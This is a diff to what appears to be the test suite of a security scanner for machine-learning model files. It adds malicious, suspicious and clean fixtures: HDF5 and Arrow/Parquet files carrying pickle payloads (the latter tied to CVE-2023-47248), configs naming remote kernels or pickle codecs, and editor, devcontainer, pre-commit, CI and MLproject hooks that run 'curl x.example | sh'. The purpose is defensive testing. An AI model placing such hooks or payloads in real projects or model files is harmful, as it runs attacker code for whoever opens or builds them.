@@ -3,9 +3,11 @@
 import base64
 import io
 import json
+import struct
 import zipfile
 
 import h5py
+import numpy as np
 
 from tests.formats.tensorflow_files import field
 from tests.scanner.archive_assembly import tarred, torch_zip
@@ -76,7 +78,101 @@ def _lite(operator: str) -> bytes:
     return archive({"m/data.pkl": b"\x80\x02N.", "m/bytecode.pkl": program(names)})
 
 
+def _pytables(marked: str) -> bytes:
+    """Far more than the first bytes, then a pickle as PyTables keeps objects."""
+    held = io.BytesIO()
+    with h5py.File(held, "w") as file:
+        file.create_dataset("a", data=np.zeros(50_000))
+        file.create_dataset("x", data=np.frombuffer(bytes(64) + SYSTEM, np.uint8))
+        file["x"].attrs[marked] = np.bytes_(b"object")
+    return held.getvalue()
+
+
+def _table(magic: bytes, schema: bytes) -> bytes:
+    start = magic.ljust(8, b"\0") if magic == b"ARROW1" else magic
+    return start + bytes(100) + schema + struct.pack("<I", len(schema)) + magic
+
+
+_TYPE = b"ARROW:extension:name\0arrow.py_extension_type\0\0"
+_RUN = "curl x.example | sh"
+
 CASES = [
+    Case(
+        "HELD-kernels",
+        "kernels, modules and codecs that loaders take from elsewhere",
+        SUSPICIOUS,
+        {
+            "config.json": _json({"_attn_implementation": "someone/attention"}),
+            "a/config.json": _json({"text_config": {"attn_implementation": "paged|x/y:run"}}),
+            "adapter_config.json": _json({"auto_mapping": {"parent_library": "evil"}}),
+            ".zarray": _json({"filters": [{"id": "pickle", "protocol": 5}]}),
+            "zarr.json": _json({"codecs": [{"name": "numcodecs.pickle"}]}),
+        },
+    ),
+    Case(
+        "HELD-usual-kernels",
+        "what transformers, peft and Zarr write",
+        CLEAN,
+        {
+            "config.json": _json({"_attn_implementation": "sdpa"}),
+            "a/config.json": _json({"_attn_implementation": "kernels-community/flash-attn3"}),
+            "adapter_config.json": _json(
+                {"auto_mapping": {"parent_library": "transformers.models.bert.modeling_bert"}}
+            ),
+            ".zarray": _json({"filters": [{"id": "delta"}], "compressor": {"id": "blosc"}}),
+            "names.json": _json({"id": "pickle", "name": "pickle"}),
+        },
+    ),
+    Case(
+        "HELD-pytables",
+        "a pickle that PyTables or pandas would load from an HDF5 file",
+        MALICIOUS,
+        {
+            "a.h5": _pytables("PSEUDOATOM"),
+            "b.h5": _pytables("PYTABLES_FORMAT_VERSION"),
+            "c.h5": _pytables("pandas_type"),
+        },
+    ),
+    Case(
+        "HELD-column",
+        "a type of column that is described by a pickle (CVE-2023-47248)",
+        SUSPICIOUS,
+        {
+            "a.arrow": _table(b"ARROW1", _TYPE),
+            **{
+                f"{shift}.parquet": _table(b"PAR1", base64.b64encode(bytes(shift) + _TYPE))
+                for shift in range(3)
+            },
+        },
+    ),
+    Case(
+        "HELD-columns",
+        "tables without it",
+        CLEAN,
+        {"a.arrow": _table(b"ARROW1", b"schema"), "a.parquet": _table(b"PAR1", b"schema")},
+    ),
+    Case(
+        "HELD-tools",
+        "commands that editors, hosts of code and other tools run",
+        SUSPICIOUS,
+        {
+            "tasks.json": b'{\n  // comment\n  "command": "%s"}' % _RUN.encode(),
+            "devcontainer.json": _json({"postCreateCommand": _RUN}),
+            ".pre-commit-config.yaml": f"repos:\n- hooks:\n  - entry: {_RUN}\n".encode(),
+            "any.yml": f"on: push\njobs:\n  a:\n    steps:\n    - run: {_RUN}\n".encode(),
+            "MLproject": f'entry_points:\n  main:\n    command: "{_RUN}"\n'.encode(),
+        },
+    ),
+    Case(
+        "HELD-told",
+        "the same as words, in data and cards",
+        CLEAN,
+        {
+            "data.json": _json([{"instruction": "install it", "output": f"{_RUN}"}]),
+            "README.md": f"Install it: `{_RUN}`\n".encode(),
+            "any.yml": f"on: push\ntext: {_RUN}\n".encode(),
+        },
+    ),
     Case(
         "HELD-row",
         "archives one after the other, as distributed checkpoints have them, one of them an attack",
